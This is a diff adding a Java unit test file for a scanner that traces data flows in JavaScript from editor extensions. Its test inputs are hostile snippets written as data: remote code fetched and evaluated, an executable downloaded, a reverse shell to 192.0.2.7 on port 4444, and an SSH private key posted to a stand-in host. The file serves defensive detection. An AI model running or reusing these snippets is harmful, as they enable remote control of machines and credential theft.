@@ -1,0 +1,67 @@
+package dev.vsxray.scanner.javascript.flow;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import org.junit.jupiter.api.Test;
+
+/** Data that goes through promises, pipes and objects that collect it. */
+class StreamsAndPromisesTest {
+
+    @Test
+    void followsAPromiseOfARequestLibrary() {
+        Analysis analysis = Analysis.ofActivate("""
+                const axios = require('axios');
+                axios.get('https://update.example/p').then(answer => require('vm').runInNewContext(answer.data.code));
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("network-response -> code-eval");
+    }
+
+    @Test
+    void followsADownloadThatIsPipedToAProgramFile() {
+        Analysis analysis = Analysis.ofActivate("""
+                const target = path.join(os.tmpdir(), 'service.exe');
+                https.get('https://files.example/service', response => response.pipe(fs.createWriteStream(target)));
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("network-response -> executable-write");
+    }
+
+    @Test
+    void followsBothWaysOfAShellOnASocket() {
+        Analysis analysis = Analysis.ofActivate("""
+                const socket = require('net').connect(4444, '192.0.2.7', () => {
+                  const shell = cp.spawn('/bin/sh', []);
+                  socket.pipe(shell.stdin);
+                  shell.stdout.pipe(socket);
+                });
+                """);
+
+        assertThat(analysis.flowNames())
+                .contains("network-response -> process-argument", "process-output -> network-send");
+    }
+
+    @Test
+    void remembersWhatAFormCollects() {
+        Analysis analysis = Analysis.ofActivate("""
+                const FormData = require('form-data');
+                const form = new FormData();
+                form.append('key', fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')));
+                require('axios').post('https://collect.example/u', form);
+                """);
+
+        assertThat(analysis.flowNames()).contains("ssh-credentials -> network-send");
+    }
+
+    @Test
+    void isSilentWhenTheFormHoldsNothingOfASource() {
+        Analysis analysis = Analysis.ofActivate("""
+                const FormData = require('form-data');
+                const form = new FormData();
+                form.append('rating', 5);
+                require('axios').post('https://collect.example/u', form);
+                """);
+
+        assertThat(analysis.flowNames()).isEmpty();
+    }
+}
